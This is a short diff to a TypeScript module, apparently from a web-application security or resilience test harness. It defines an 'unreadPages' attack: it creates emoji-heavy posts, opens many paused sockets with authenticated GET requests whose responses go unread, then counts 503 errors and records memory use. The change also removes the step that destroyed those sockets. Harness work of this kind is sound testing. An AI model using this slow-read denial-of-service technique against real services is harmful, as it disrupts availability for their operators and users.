@@ -18,17 +18,15 @@ export const unreadPages: Attack = {
     const { token } = target.attacker;
     const form = { title: 'T', text: '\u{1f600}'.repeat(EMOJI_PER_POST) };
     for (let count = 0; count < POSTS; count++) await send('POST', '/posts/create', { token, form });
-    const unread = Array.from({ length: REQUESTS }, () => {
+    for (let count = 0; count < REQUESTS; count += 1) {
       const socket = openSocket(target);
       socket.pause();
       socket.write(rawGet(PATH, { Authorization: `Bearer ${token}` }));
-      return socket;
-    });
+    }
     const read = () => statusOf(send('GET', PATH, { localAddress: ATTACKER, token, signal }));
     const unreadTime = sleep(UNREAD_MS);
     const statuses = await Promise.all(Array.from({ length: REQUESTS }, read));
     await unreadTime;
-    for (const socket of unread) socket.destroy();
     return [otherStatuses(statuses, 200, 503)];
   },
   figures: (observation) => [memory(observation, 1024)],
